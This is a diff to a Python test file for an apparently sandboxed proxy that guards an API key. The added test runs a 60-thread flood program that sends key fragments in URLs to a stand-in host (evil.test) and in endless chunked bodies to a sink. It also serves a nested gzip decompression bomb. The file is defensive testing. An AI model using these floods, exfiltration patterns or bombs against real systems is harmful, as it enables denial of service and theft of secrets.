@@ -46,9 +46,42 @@ for _ in range(40):
     threading.Thread(target=send, daemon=True).start()
 threading.Event().wait()
 """
+SIEGE = """
+import threading
+
+def send(attack):
+    while True:
+        try:
+            attack()
+        except OSError:
+            pass
+
+def body():
+    stream = direct("sink.test", SINK, None)
+    stream.sendall(request("sink.test:SINK", "/sink", "POST", ["Transfer-Encoding: chunked"]))
+    while True:
+        stream.sendall(b"10000\\r\\n" + b"sk-ant-a" * 8192 + b"\\r\\n")
+
+def url():
+    stream = plain()
+    while True:
+        stream.sendall(request("evil.test", "http://evil.test/?" + "sk-ant-a" * 7500).replace(b"close", b"keep-alive"))
+        stream.recv(65536)
+
+attacks = {
+    "url": url,
+    "body": body,
+    "answer": lambda: asked(direct("bare.test", PORT, None), request("bare.test:PORT", "/nothing")),
+}
+for _ in range(60):
+    threading.Thread(target=send, args=(attacks[ATTACK],), daemon=True).start()
+threading.Event().wait()
+"""
 FLOOD = Path(__file__).parent.parent / "far_side" / "flood.py"
 LONGEST_PAUSE = 1.0
 """Seconds. Beside a program that does its worst the server looks after all others at least as often."""
+LONG_PAUSE = 0.1
+"""Seconds, and longer than anything takes that is done in pieces."""
 
 
 @pytest.fixture
@@ -130,6 +163,34 @@ place, port = "alpha.test:{server.place.port}", {server.place.port}
                 said = await world.value("python", PRELUDE + code)
     assert said == [0, 1 << 24]
     assert max(pauses) < LONGEST_PAUSE
+
+
+async def test_what_takes_long_to_decode_or_search_leaves_others_their_time(world_of, api_at, authority, flood, pauses):
+    """E4: beginnings of a known key in URLs and bodies, and empty members under a coding, on 60 connections.
+
+    Most of the time passed in turns of the event loop that took up to 0.9 s.
+    """
+    nothing = gzip.compress(gzip.compress(b"") * 600_000)
+    async with hostile(authority.server("alpha.test", protocols=("http/1.1",))) as server, hostile() as bare:
+        bare.answers = {"/nothing": lambda _: whole(nothing, b"Content-Encoding: gzip, gzip")}
+        place = bare.place
+        apis = {
+            "alpha": api_at(server.place.port),
+            "bare": {"hosts": [f"http://bare.test:{place.port}"], "addresses": [place.host]},
+            "sink": {"hosts": [f"http://sink.test:{flood[1]}"], "addresses": [place.host]},
+        }
+        async with world_of({"ALPHA_KEY": "sk-ant-api03-R2D2xyzq_AbCdEfGhIjKlMnOpQrStUv"}, api=apis) as world:
+            known = f'asked(direct("alpha.test", {server.place.port}), request("alpha.test:{server.place.port}"))'
+            await world.run("python", PRELUDE + known)
+            for attack in ("url", "body", "answer"):
+                program = PRELUDE + SIEGE.replace("SINK", str(flood[1])).replace("PORT", str(place.port)).replace(
+                    "ATTACK", repr(attack)
+                )
+                pauses.clear()
+                result = await world.run("python", program, limits=Narrowing(wall_seconds=3))
+                assert result.status == "timeout", (attack, result.error, result.stderr.text)
+                long = sum(pause for pause in pauses if pause > LONG_PAUSE)
+                assert long < sum(pauses) / 3, attack
 
 
 async def test_who_holds_all_its_connections_holds_nobody_elses(world_of, api_at, authority):
